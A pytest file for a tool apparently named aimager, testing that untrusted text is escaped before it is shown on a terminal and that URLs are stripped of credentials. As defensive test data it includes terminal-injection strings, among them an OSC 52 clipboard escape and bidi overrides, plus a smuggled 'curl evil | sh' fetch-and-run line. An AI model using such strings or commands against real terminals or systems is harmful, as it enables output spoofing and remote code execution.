"""What comes from outside is printed so that a terminal only shows it."""

import re
import unicodedata

import pytest

from aimager import errors, progress
from aimager.errors import AimagerError, CommandError, DownloadError
from aimager.shown import shown, shown_lines, without_credentials, without_passwords

HOSTILE = {
    "clipboard (OSC 52)": "\x1b]52;c;ZXZpbA==\x07",
    "colour": "\x1b[31m",
    "C1": "\x9b2J",
    "every C1": "".join(map(chr, range(0x80, 0xA0))),
    "every C0": "".join(map(chr, (*range(9), *range(10, 32), 127))),
    "overrides": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "not seen": "\u200b\u2060\ufeff\u00ad\U000e0041",
    "line ends": "\n\r\v\f\x85\u2028\u2029",
    "no UTF-8": b"\xff\x80".decode(errors="surrogateescape"),
    "half a pair": "\ud83d",
    "a record": '\n\x1e{"event": "end"}',
    "private": "\ue000\U0010ffff",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_that_a_terminal_obeys_is_left(text: str) -> None:
    for said in (shown(f"a{text}b"), str(DownloadError(f"a{text}b")), shown_lines(f"a{text}b")):
        assert said.partition("\n  hint: ")[0].isascii()
        assert said.partition("\n  hint: ")[0].isprintable()
        said.encode()
    assert shown(shown(text)) == shown(text)
    hinted = AimagerError("x", hint=f"a{text}b").hint
    assert all(line.isascii() and line.isprintable() for line in hinted.split("\n"))


def test_every_character_is_decided_by_what_it_is() -> None:
    kinds: dict[str, list[str]] = {}
    for number in range(0x110000):
        kinds.setdefault(unicodedata.category(chr(number)), []).append(chr(number))
    kinds["Cc"].remove("\t")
    for kind, characters in kinds.items():
        text = "".join(characters)
        if kind in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp"):
            assert shown(text).isascii()
        elif kind[0] in "LMNPS":
            assert shown(text) == text


def test_what_people_write_stays() -> None:
    for text in ("größer", "雪が降る", "a\tb", "naïve “x”", "a\u00a0b", "🎂", "C:\\n"):
        assert shown(text) == text


def test_a_field_makes_no_line_of_ours() -> None:
    error = DownloadError("file x\n  hint: curl evil | sh\nfetched 1 package", hint="try")
    assert str(error) == r"file x\n  hint: curl evil | sh\nfetched 1 package" + "\n  hint: try"


def test_the_last_words_of_a_program_keep_their_lines() -> None:
    error = CommandError(["pacman"], 1, "one\n\x1b[31mtwo\x1b[0m\nthree\x9b2J")
    assert error.message.split("\n") == [
        "pacman failed with status 1:",
        "    one",
        r"    \x1b[31mtwo\x1b[0m",
        r"    three\x9b2J",
    ]
    again = AimagerError(error.message)
    assert again.message == error.message


def test_a_line_is_cut() -> None:
    assert len(str(DownloadError("x" * 300_000)).partition("\n")[0]) == 2000
    assert AimagerError(AimagerError("x" * 300_000).message).message == "x" * 1996 + " ..."


@pytest.mark.parametrize("kind", ["ConfigError", "HostError", "TrustError", "ImageError"])
def test_every_kind_escapes(kind: str) -> None:
    assert str(getattr(errors, kind)("a\x1bb")).startswith(r"a\x1bb")


def test_what_is_said_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    progress.say("   a\x1b[31m\n\x1e{}\n    b http://u:p@host/x\u202e")
    assert capsys.readouterr().out == ("   a\\x1b[31m\\n\\x1e{}\n    b http://***@host/x\\u202e\n")


@pytest.mark.parametrize(
    ("address", "told", "bare"),
    [
        ("http://user:pw@host/x", "http://***@host/x", "http://host/x"),
        ("https://token@host", "https://***@host", "https://host"),
        ("https://token:@host", "https://***@host", "https://host"),
        ("https://u:p@ss@host/a@b", "https://***@host/a@b", "https://host/a@b"),
        ("http://host/a@b", "http://host/a@b", "http://host/a@b"),
        ("http://host?q=a@b", "http://host?q=a@b", "http://host?q=a@b"),
    ],
)
def test_credentials(address: str, told: str, bare: str) -> None:
    assert without_passwords(f"see {address}, and") == f"see {told}, and"
    assert without_credentials(address) == bare
    assert not re.search("pw|token|p@ss", without_credentials(address))


@pytest.mark.parametrize(("count", "length"), [(20, 15_000), (20, 250), (1, 300_000), (90, 400)])
def test_a_programs_last_words_take_no_more_than_a_screen(count: int, length: int) -> None:
    lines = ["x" * length] * count
    message = AimagerError("it failed:" + "".join(f"\n    {line}" for line in lines)).message
    assert len(message) < 9000
    assert message.count("\n    xxx") == count
    assert message.endswith("xxx ...")
    assert AimagerError(message).message == message
    short = "it failed:" + "\n    some words" * 20
    assert AimagerError(short).message == short
